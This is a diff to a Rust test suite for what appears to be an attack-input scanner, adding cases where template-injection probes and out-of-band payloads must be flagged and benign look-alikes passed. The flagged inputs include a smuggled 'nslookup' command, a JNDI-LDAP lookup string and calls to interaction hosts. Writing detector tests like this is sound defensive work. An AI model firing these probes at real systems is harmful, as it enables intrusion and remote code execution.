@@ -346,6 +346,44 @@ fn absolute_paths_climbing_out_of_a_directory() {
 }
 
 #[test]
+fn scanner_probes_for_templates_and_out_of_band_hosts() {
+    table(
+        "ssti",
+        Q,
+        &[
+            "{7*7}",
+            "[[7*7]]",
+            "[(7*'7')]",
+            "{@math key=7 method=\"multiply\" operand=7/}",
+            "{@contextDump/}",
+        ],
+        &[
+            "{a, b}",
+            "{x | x > 0}",
+            "The area is {7*7} cm2 wide",
+            "[[Main Page]]",
+            "email me at a@b.example {at} noon",
+        ],
+    );
+    table(
+        "oast",
+        Q,
+        &[
+            "http://abc123.oastify.com/x",
+            "x; nslookup q1w2e3.interact.sh",
+            "${jndi:ldap://u7.c5h2.oast.fun/a}",
+            "\\\\smb.9f8e.burpcollaborator.net\\share",
+            "k3j4.dnslog.cn",
+        ],
+        &[
+            "We used Burp Collaborator (burpcollaborator.net) in the test",
+            "interact.sh is an open-source OAST tool",
+            "https://www.boast.pro/pricing",
+        ],
+    );
+}
+
+#[test]
 fn the_northwind_sample_database_but_not_a_company_of_that_name() {
     table(
         "sqli",
